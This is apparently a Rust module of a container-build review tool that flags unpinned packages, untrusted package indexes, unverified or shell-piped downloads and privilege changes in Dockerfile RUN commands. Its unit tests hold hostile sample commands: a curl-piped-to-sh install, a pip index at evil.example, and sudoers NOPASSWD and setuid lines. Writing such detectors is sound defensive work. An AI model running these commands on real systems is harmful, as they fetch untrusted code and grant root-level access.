//! What a RUN instruction does that a reviewer must look at: package installs and the sources
//! they come from, downloads (and whether they are verified or piped into a shell), and
//! privilege changes. Works on the simple commands of [`crate::shell::split`].

use vouch_proto::findings::Severity;

use crate::rule::Rule;

use crate::shell::SimpleCommand;

mod downloads;
mod installs;
mod privilege;

/// A finding before it gets its line, instruction and id.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Raw {
    /// The rule that found it (its code starts the finding's id).
    pub rule: &'static Rule,
    /// What it is about (an image, a URL, a path, a package set): with the rule's code, the
    /// finding's id. Never its wording, which may change.
    pub about: String,
    /// What was found.
    pub summary: String,
    /// How much it matters.
    pub severity: Severity,
    /// What to check.
    pub check: String,
}

/// A download seen in a RUN or ADD.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Download {
    /// The URL.
    pub url: String,
    /// Where it was written, when known.
    pub dest: Option<String>,
    /// The position of its finding in [`RunFacts::findings`].
    pub finding: usize,
}

/// What a RUN instruction does.
#[derive(Default, Debug)]
pub struct RunFacts {
    /// Findings.
    pub findings: Vec<Raw>,
    /// Paths it creates or makes executable.
    pub created: Vec<String>,
    /// Its downloads.
    pub downloads: Vec<Download>,
}

const SHELLS: [&str; 9] = [
    "sh", "bash", "zsh", "dash", "ash", "ksh", "python", "python3", "perl",
];

pub(crate) fn base(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// The command's words without leading `sudo`, `env`, `VAR=value` and similar wrappers.
fn effective(words: &[String]) -> &[String] {
    let mut rest = words;
    while let Some(first) = rest.first() {
        let wrapper =
            matches!(
                base(first),
                "sudo" | "env" | "time" | "nice" | "nohup" | "command" | "exec" | "xargs"
            ) || (first.contains('=') && !first.starts_with('-') && !first.starts_with('='));
        if !wrapper {
            break;
        }
        rest = &rest[1..];
        // `sudo -u user`, `env -i`: skip their options too.
        while rest.first().is_some_and(|w| w.starts_with('-')) {
            rest = &rest[1..];
        }
    }
    rest
}

fn is_url(word: &str) -> bool {
    ["http://", "https://", "ftp://", "git://", "git@", "ssh://"]
        .iter()
        .any(|p| word.starts_with(p))
}

fn url_basename(url: &str) -> String {
    let path = url.split(['?', '#']).next().unwrap_or(url);
    path.trim_end_matches('/')
        .rsplit('/')
        .next()
        .unwrap_or("")
        .to_string()
}

pub(crate) fn option_value<'w>(words: &'w [String], names: &[&str]) -> Option<&'w str> {
    for (i, word) in words.iter().enumerate() {
        for name in names {
            if word == name {
                return words.get(i + 1).map(String::as_str);
            }
            if let Some(value) = word.strip_prefix(&format!("{name}=")) {
                return Some(value);
            }
            // Short options glued to their value: `-ofile`.
            if name.len() == 2
                && !name.starts_with("--")
                && word.starts_with(name)
                && word.len() > 2
                && !word.starts_with("--")
            {
                return Some(&word[2..]);
            }
        }
    }
    None
}

/// The value of a short option that ends a cluster, as in curl's `-fsSLo FILE`.
fn glued_last(words: &[String], option: char) -> Option<String> {
    let position = words.iter().position(|w| {
        w.starts_with('-') && !w.starts_with("--") && w.len() > 2 && w.ends_with(option)
    })?;
    words.get(position + 1).cloned()
}

/// One simple command of a RUN, with what every check needs to see around it.
#[derive(Clone, Copy)]
pub(crate) struct At<'a> {
    /// Every simple command of the RUN.
    pub commands: &'a [SimpleCommand],
    /// This one's position among them.
    pub index: usize,
    /// This one.
    pub command: &'a SimpleCommand,
    /// Its words without wrappers such as `sudo` and `env`.
    pub words: &'a [String],
    /// The program it runs (the first word's basename).
    pub program: &'a str,
    /// Every word of the RUN.
    pub all_words: &'a [&'a String],
    /// Whether the RUN verifies something (a checksum or signature check).
    pub verified: bool,
}

/// Analyses the commands of one RUN: each check family looks at each simple command in turn,
/// in the order their findings are listed.
pub fn run(commands: &[SimpleCommand]) -> RunFacts {
    let mut facts = RunFacts::default();
    let all_words: Vec<&String> = commands.iter().flat_map(|c| &c.words).collect();
    let verified = verifies(commands);
    for (index, command) in commands.iter().enumerate() {
        let words = effective(&command.words);
        let Some(first) = words.first() else { continue };
        let at = At {
            commands,
            index,
            command,
            words,
            program: base(first),
            all_words: &all_words,
            verified,
        };
        installs::packages(&at, &mut facts);
        installs::sources(&at, &mut facts);
        downloads::check(&at, &mut facts);
        privilege::check(&at, &mut facts);
        created_paths(&at, &mut facts);
    }
    facts
}

/// Whether the RUN checks a checksum or a signature anywhere.
fn verifies(commands: &[SimpleCommand]) -> bool {
    commands.iter().any(|c| {
        let w = effective(&c.words);
        let program = w.first().map(|p| base(p)).unwrap_or("");
        (matches!(
            program,
            "sha256sum" | "sha512sum" | "sha1sum" | "shasum" | "md5sum"
        ) && (w
            .iter()
            .any(|a| a == "-c" || a == "--check" || a.starts_with("-c"))
            || commands.iter().any(|o| {
                o.piped
                    && o.words.iter().any(|x| {
                        x.len() >= 64 && x.chars().take(64).all(|ch| ch.is_ascii_hexdigit())
                    })
            })))
            || (program == "gpg" || program == "gpgv")
                && w.iter().any(|a| a == "--verify" || program == "gpgv")
            || program == "cosign" && w.get(1).is_some_and(|a| a.starts_with("verify"))
            || program == "minisign" && w.iter().any(|a| a == "-V")
    })
}

/// The first file this command writes (by redirection, or as `tee`'s argument) under one of
/// `prefixes`.
pub(crate) fn writes_to(at: &At<'_>, prefixes: &[&str]) -> Option<String> {
    let At {
        command,
        words,
        program,
        ..
    } = *at;
    let tee_targets: Vec<String> = if program == "tee" {
        words[1..]
            .iter()
            .filter(|w| !w.starts_with('-'))
            .cloned()
            .collect()
    } else {
        Vec::new()
    };
    command
        .writes
        .iter()
        .chain(tee_targets.iter())
        .find(|t| prefixes.iter().any(|p| t.starts_with(p)))
        .cloned()
}

/// Paths created by moves, copies, links and redirections, for the entrypoint check.
fn created_paths(at: &At<'_>, facts: &mut RunFacts) {
    let At {
        command,
        words,
        program,
        ..
    } = *at;
    if matches!(program, "mv" | "cp" | "ln" | "install" | "touch" | "tee") {
        if let Some(last) = words.iter().skip(1).rfind(|w| !w.starts_with('-')) {
            facts.created.push(last.clone());
        }
    }
    facts.created.extend(
        command
            .writes
            .iter()
            .filter(|w| w.starts_with('/'))
            .cloned(),
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::split;

    fn kinds(script: &str) -> Vec<(vouch_proto::findings::FindingKind, Severity, String)> {
        run(&split(script))
            .findings
            .into_iter()
            .map(|f| (f.rule.kind, f.severity, f.summary))
            .collect()
    }

    #[test]
    fn packages_pins_and_sources() {
        let found =
            kinds("apt-get update && apt-get install -y --no-install-recommends curl=7.88 git");
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].1, Severity::Medium);
        assert!(
            found[0].2.contains("not pinned to a version: git"),
            "{}",
            found[0].2
        );
        let pinned = kinds("pip install --no-cache-dir requests==2.31.0");
        assert_eq!(pinned[0].1, Severity::Low);
        let index = kinds("pip install -i https://evil.example/simple requests==2.31.0");
        assert_eq!(index[0].1, Severity::High);
        assert!(kinds("apk add --allow-untrusted foo=1")[0]
            .2
            .contains("--allow-untrusted"));
        assert!(kinds("go install golang.org/x/tools/gopls@latest")[0]
            .2
            .contains("not pinned"));
        assert_eq!(
            kinds("npm install -g @angular/cli@17.0.0")[0].1,
            Severity::Low
        );
    }

    #[test]
    fn downloads_verified_unverified_and_piped() {
        let piped = kinds("curl -fsSL https://get.example.com/install.sh | sh");
        assert_eq!(piped[0].1, Severity::High);
        assert!(piped[0].2.contains("piped straight into sh"));
        let unverified = run(&split(
            "wget -O /usr/local/bin/dumb-init https://x/dumb-init",
        ));
        assert!(unverified.findings[0].summary.contains("not verified"));
        assert_eq!(
            unverified.downloads[0].dest.as_deref(),
            Some("/usr/local/bin/dumb-init")
        );
        let verified = kinds(
            "curl -fsSLo /tmp/t.tgz https://x/t.tgz && echo \"aaaa  /tmp/t.tgz\" | sha256sum -c -",
        );
        assert_eq!(verified[0].1, Severity::Low, "{verified:?}");
    }

    #[test]
    fn privilege_changes() {
        let found = kinds("useradd -m -G sudo builder && echo '%sudo ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers && chmod u+s /usr/bin/find");
        let summaries: Vec<&str> = found.iter().map(|f| f.2.as_str()).collect();
        assert!(
            summaries.iter().any(|s| s.contains("membership of sudo")),
            "{summaries:?}"
        );
        assert!(
            summaries
                .iter()
                .any(|s| s.contains("/etc/sudoers with NOPASSWD")),
            "{summaries:?}"
        );
        assert!(
            summaries.iter().any(|s| s.contains("setuid")),
            "{summaries:?}"
        );
        assert!(kinds("chmod 755 /x").is_empty());
        assert!(kinds("chmod 4755 /x")[0].2.contains("setuid"));
    }
}
